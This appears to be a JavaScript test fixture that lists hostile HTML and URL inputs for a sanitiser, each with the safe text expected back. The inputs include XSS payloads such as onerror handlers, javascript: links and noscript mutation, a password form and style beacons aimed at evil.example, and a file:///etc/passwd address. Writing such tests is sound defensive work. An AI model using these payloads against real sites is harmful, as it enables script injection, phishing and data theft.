// Texts and addresses that mean harm, in our own words: what an API may send where prose or a link is expected. `text` is what a reader has
// to see. More cases of the same shape, `{ html, urls }`, are taken from the file that SSW_HOSTILE names, or from beside the repository.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '../../scripts/entries.mjs';

const call = 'globalThis.__pwned=1';

const html = [
  ['image', `<img src=x onerror="${call}">seen`, 'seen'],
  ['script', `a<script>${call}</script>b`, 'ab'],
  ['script of another origin', 'a<script src="https://evil.example/a.js"></script>b', 'ab'],
  ['drawing', `<svg onload="${call}"><circle/></svg>c`, 'c'],
  ['drawing with a script', `<svg><script>${call}</script></svg>c`, 'c'],
  ['formula', `<math><mtext><img src=x onerror="${call}"></mtext></math>c`, 'c'],
  ['link to a script', `<a href="javascript:${call}">Repair</a>`, 'Repair'],
  ['link with a hidden tab', `<a href="java&#x09;script:${call}">Repair</a>`, 'Repair'],
  ['link to data', `<a href="data:text/html,<script>${call}</script>">Repair</a>`, 'Repair'],
  ['link that pretends', '<a href="https://evil.example/in">portal.example.com</a>', 'portal.example.com (leads to evil.example)'],
  ['handler on what is allowed', `<p onmouseover="${call}" onclick="${call}">d</p>`, 'd'],
  ['style that covers', '<p style="position:fixed;inset:0;background:url(https://evil.example/p)">e</p>', 'e'],
  ['style sheet', '<style>*{background:url(https://evil.example/s)}</style>f', 'f'],
  ['linked style sheet', '<link rel="stylesheet" href="https://evil.example/s.css">f', 'f'],
  ['frame', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>g`, 'g'],
  ['frame of another origin', '<iframe src="https://evil.example/"></iframe>g', 'g'],
  ['object', '<object data="https://evil.example/o"><p>inner</p></object>h', 'h'],
  ['form', '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>i', 'i'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">j', 'j'],
  ['base', '<base href="https://evil.example/">k', 'k'],
  ['video', `<video src="https://evil.example/v" onerror="${call}"></video>l`, 'l'],
  ['details that open', `<details open ontoggle="${call}"><summary>m</summary></details>`, 'm'],
  ['autofocus', `<input autofocus onfocus="${call}">n`, 'n'],
  ['unknown element', `<x-evil onclick="${call}">o</x-evil>`, 'o'],
  ['comment that ends early', `<!--><img src=x onerror="${call}">-->p`, '-->p'],
  ['mutation through noscript', `<noscript><p title="</noscript><img src=x onerror=${call}>">q</p></noscript>`, '">q'],
  ['references decoded once', `&amp;lt;img src=x onerror=${call}&amp;gt;`, `&lt;img src=x onerror=${call}&gt;`],
  ['references are text', `&lt;script&gt;${call}&lt;/script&gt;`, `<script>${call}</script>`],
  [
    'templates',
    '${globalThis.__pwned=1} {{constructor.constructor("x")()}} <%= 7*7 %>',
    '${globalThis.__pwned=1} {{constructor.constructor("x")()}} <%= 7*7 %>',
  ],
  ["lit's own marks", '<!--?lit$123456789$-->r?lit$123456789$', 'r?lit$123456789$'],
  ['end of an attribute', `" onmouseover="${call}" x="`, `" onmouseover="${call}" x="`],
  ['angles in prose', 'score < 5 and > 3, fewer than <5 administrators', 'score < 5 and > 3, fewer than <5 administrators'],
  ['left open', '<b>bold <i>both', 'bold both'],
  ['cut tag', 'text <a href="', 'text <a href="'],
  ['one long word', 'x'.repeat(5000), 'x'.repeat(5000)],
];

const link = ['https://portal.example.com/#/policies', 'https://admin.example.com/a?b=1&c=2'];
const text = [
  `javascript:${call}`,
  ` JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  'vbscript:x',
  'blob:https://a.example/1',
  '//evil.example/x',
  '/admin',
  '#top',
  'https://user:secret@a.example/',
  'https://portal.example.com@evil.example/',
  'https:\\\\evil.example',
  'http://portal.example.com/',
  'mailto:a@b.example',
  'file:///etc/passwd',
  'no address',
  'https://',
  '',
];

const own = {
  html: html.map(([id, input, shown]) => ({ id, input, text: shown })),
  urls: [...link.map((input) => ({ id: input, input, expect: 'link' })), ...text.map((input) => ({ id: input, input, expect: 'text' }))],
};

const inputOf = ({ input, input_rule: rule }) => input ?? rule.repeat.map(([part, times]) => part.repeat(times)).join('');
const others = process.env.SSW_HOSTILE ?? join(root, '../shared/fixtures/hostile/payloads.json');

/** `{ html: [{ id, input, text? }], urls: [{ id, input, expect: 'link' | 'text' }] }` */
export function hostileCases() {
  if (!existsSync(others)) return own;
  const more = JSON.parse(readFileSync(others, 'utf8'));
  const marked = (cases) => cases.map((one) => ({ id: `more: ${one.id}`, input: inputOf(one), text: one.text, expect: one.expect }));
  return { html: [...own.html, ...marked(more.html)], urls: [...own.urls, ...marked(more.urls)] };
}
